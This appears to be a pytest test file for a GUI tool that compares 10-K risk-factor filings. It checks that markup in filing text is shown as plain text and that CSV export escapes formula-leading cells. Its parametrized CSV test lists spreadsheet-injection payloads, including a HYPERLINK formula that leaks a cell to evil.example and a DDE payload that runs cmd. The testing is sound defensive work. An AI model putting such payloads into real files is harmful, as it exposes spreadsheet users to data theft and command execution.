"""Filing text (headings, categories, company names, file names, quoted section text) is shown
as the characters it holds in every place of the window, never as markup; the CSV report
never holds a formula (issue 8)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from PySide6.QtCore import QModelIndex
from PySide6.QtGui import Qt, QTextDocument
from PySide6.QtWidgets import QLabel
from pytestqt.qtbot import QtBot

from core.errors import FactorDiffError, SectionNotApplicableError
from core.model import (
    Comparison,
    Factor,
    Filing,
    Pair,
    Passage,
    PassageKind,
    Similarity,
    Status,
    Summary,
)
from core.report.to_csv import comparison_to_csv
from gui.main_window import MainWindow

# What a hostile filing can carry: bold, an image that would stretch the window, a link.
MARKUP = '<b>bold</b><img src="x.png" width="20000" height="20000"><a href="http://x">link</a>'
# The same in a file name, which cannot hold a slash.
NAME_MARKUP = MARKUP.replace("/", "")


def seen(text: str, text_format: Qt.TextFormat = Qt.TextFormat.AutoText) -> str:
    """What Qt shows for `text` in a label, tooltip or dialog of `text_format`."""
    rich = text_format == Qt.TextFormat.RichText or (
        text_format == Qt.TextFormat.AutoText and Qt.mightBeRichText(text)
    )
    if not rich:
        return text
    document = QTextDocument()
    document.setHtml(text)
    return document.toPlainText()


def label_shows(label: QLabel) -> str:
    return seen(label.text(), label.textFormat())


def _hostile_comparison(folder: Path) -> Comparison:
    def filing(name: str, year: int, headings: tuple[str, ...]) -> Filing:
        factors = tuple(
            Factor(
                heading=f"{heading} {MARKUP}",
                paragraphs=(f"Body {MARKUP} of {heading}.",),
                category=(f"Category {MARKUP}",),
            )
            for heading in headings
        )
        path = folder / f"{name} {NAME_MARKUP}.htm"
        path.write_text("placeholder")
        return Filing(
            path=str(path),
            company=f"Company {MARKUP}",
            form="10-K",
            fiscal_year=year,
            section_title=f"Item 1A. {MARKUP}",
            factors=factors,
            passages=(Passage(PassageKind.INTRODUCTION, (f"Intro {MARKUP}",)),),
        )

    old = filing("old", 2023, ("Kept", "Gone"))
    new = filing("new", 2024, ("Kept", "Fresh"))
    pairs = (
        Pair(0, 0, Status.UNCHANGED, 1.0, passage=True),
        Pair(0, 0, Status.UNCHANGED, 1.0),
        Pair(1, None, Status.REMOVED),
        Pair(None, 1, Status.ADDED),
    )
    counts = {status: sum(pair.status is status for pair in pairs[1:]) for status in Status}
    return Comparison(old, new, pairs, Summary(counts, Similarity(0.5, 0.5, 0.5)))


def _tree_cells(window: MainWindow, parent: QModelIndex | None = None) -> list[QModelIndex]:
    model = window.tree.model
    parent = parent or QModelIndex()
    cells = []
    for row in range(model.rowCount(parent)):
        for column in range(model.columnCount(parent)):
            cells.append(model.index(row, column, parent))
        cells += _tree_cells(window, model.index(row, 0, parent))
    return cells


@pytest.mark.gui
def test_markup_in_a_filing_is_shown_as_text_everywhere(qtbot: QtBot, tmp_path: Path) -> None:
    window = MainWindow()
    qtbot.addWidget(window)
    window.resize(2400, 800)  # wide enough for the captions to show whole (else they elide)
    window.show()
    comparison = _hostile_comparison(tmp_path)
    window.set_comparison(comparison)
    old_path = comparison.old.path

    # The panes, the captions above them and their tooltips, the window title.
    for side in (0, 1):
        assert MARKUP in window.view.pane(side).document().toPlainText()
        assert NAME_MARKUP in label_shows(window.headers.labels[side])
        assert NAME_MARKUP in seen(window.headers.labels[side].toolTip())
    assert MARKUP in window.windowTitle()

    # The factor tree: every heading and category row, and their tooltips.
    shown = [cell.data(Qt.ItemDataRole.DisplayRole) or "" for cell in _tree_cells(window)]
    tips = [seen(cell.data(Qt.ItemDataRole.ToolTipRole) or "") for cell in _tree_cells(window)]
    assert sum(MARKUP in text for text in shown) >= 4  # 3 pairs and at least one category
    assert all(MARKUP in tip for text, tip in zip(shown, tips, strict=True) if MARKUP in text)

    # The message bar, with a section quoted by an error (a "Not applicable" section).
    quoted = f'the section only says: "Not applicable. {MARKUP}"'
    window.messages.error(SectionNotApplicableError(quoted), doing=f"Comparing {MARKUP}")
    qtbot.wait(50)
    assert MARKUP in label_shows(window.messages_bar.findChild(QLabel, "messageText"))
    assert window.width() < 3000 and window.height() < 3000

    # The dialog of an unexpected error quoting filing text.
    window.messages.unexpected(RuntimeError(MARKUP), doing=f"Reading {MARKUP}")
    dialog = window.messages.last_dialog
    assert dialog is not None
    assert MARKUP in seen(dialog.text(), dialog.textFormat())
    dialog.close()

    # Open Recent: the file names and their tooltips.
    window.settings.add_recent_file(old_path)
    window.recent_menu.aboutToShow.emit()
    entry = next(a for a in window.recent_menu.actions() if a.menu() is not None)
    assert NAME_MARKUP in entry.text().replace("&&", "&")
    assert seen(entry.menu().toolTip()) == str(Path(old_path).resolve())
    window.messages.error(FactorDiffError(f"cannot read {Path(old_path).name}"))
    assert NAME_MARKUP in label_shows(window.messages_bar.findChild(QLabel, "messageText"))


@pytest.mark.parametrize(
    "heading",
    [
        '=HYPERLINK("http://evil.example/?x="&A1, "Click")',  # a formula
        "+1+cmd|' /C calc'!A0",  # DDE through a plus
        "-2+3",  # a minus starts a formula too
        "@SUM(1+1)",  # and an at sign
        "\t=1+1",  # a tab before the formula, which some spreadsheets skip
    ],
)
def test_csv_cells_never_start_a_formula(heading: str, tmp_path: Path) -> None:
    comparison = _hostile_comparison(tmp_path)
    factor = comparison.old.factors[0]
    hostile = Factor(heading=heading, paragraphs=factor.paragraphs, category=(heading,))
    old = Filing(**{**_fields(comparison.old), "factors": (hostile, comparison.old.factors[1])})
    rows = list(csv.reader(io.StringIO(comparison_to_csv(Comparison(old, *_rest(comparison))))))
    cells = [cell for row in rows[1:] for cell in row]
    assert f"'{heading}" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


def _fields(filing: Filing) -> dict[str, object]:
    return {name: getattr(filing, name) for name in Filing.__dataclass_fields__}


def _rest(comparison: Comparison) -> tuple[Filing, tuple[Pair, ...], Summary]:
    return comparison.new, comparison.pairs, comparison.summary
